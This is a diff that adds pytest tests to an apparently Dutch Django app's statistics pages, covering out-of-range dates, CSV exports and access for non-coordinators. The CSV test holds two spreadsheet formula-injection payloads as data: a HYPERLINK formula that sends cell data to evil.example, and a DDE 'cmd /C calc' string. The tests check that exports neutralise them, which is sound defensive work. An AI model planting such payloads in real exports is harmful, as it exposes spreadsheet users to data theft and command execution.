@@ -318,3 +318,61 @@ def test_figures_answer_in_the_same_queries_for_10_and_10000_plans(
     large, response = _figures_queries(client, django_assert_max_num_queries, 23)
     assert response.context["tables"][1].rows[0][1].value == 10000
     assert small == large
+
+
+# Issue 19: the review's attacks: dates at the calendar's ends, formulas in names that reach
+# the CSV downloads, and a professional who is not a coordinator.
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        {"end": "9999-12-31"},
+        {"start": "0001-01-01"},
+        {"start": "0001-01-01", "end": "9999-12-31"},
+    ],
+)
+def test_a_date_at_the_end_of_the_calendar_gets_a_dutch_message_not_a_server_error(
+    coordinator,
+    client_for,
+    attack,
+):
+    client = client_for(coordinator)
+    response = client.get("/cijfers/", {**PERIOD, **attack})
+    assert response.status_code == 200
+    assert "Kies een datum tussen 2000 en 2099." in response.content.decode()
+    assert response.context["tables"] == []
+    assert client.get("/cijfers/fasen.csv", {**PERIOD, **attack}).status_code == 404
+
+
+def test_formulas_in_rule_and_organisation_names_are_plain_text_in_the_csv(
+    gemeente,
+    coordinator,
+    client_for,
+):
+    rule = ReminderRule.objects.order_by("pk").first()
+    rule.name = '=HYPERLINK("https://evil.example/?"&A1;"Klik")'
+    rule.save()
+    gemeente["oost"].name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    gemeente["oost"].save()
+    client = client_for(coordinator)
+    cells = {}
+    for slug in ("herinneringen", "te-laat", "zonder-plan"):
+        response = client.get(f"/cijfers/{slug}.csv", PERIOD)
+        assert response.status_code == 200
+        text = response.content.decode("utf-8-sig")
+        cells[slug] = [row[0] for row in csv.reader(io.StringIO(text), delimiter=";")][1:]
+    assert cells["herinneringen"] == ["'" + rule.name]
+    assert "'" + gemeente["oost"].name in cells["te-laat"]
+    assert cells["zonder-plan"] == ["'" + gemeente["oost"].name]
+    for column in cells.values():
+        assert not any(cell[:1] in "=+-@\t\r" for cell in column)
+
+
+def test_a_professional_who_is_not_a_coordinator_gets_our_dutch_403_page(regisseur, client_for):
+    response = client_for(regisseur).get("/cijfers/")
+    assert response.status_code == 403
+    html = response.content.decode()
+    assert "U hebt geen toegang tot deze pagina" in html
+    assert 'href="/"' in html and "Forbidden" not in html
+    assert client_for(regisseur).get("/cijfers/fasen.csv").status_code == 403
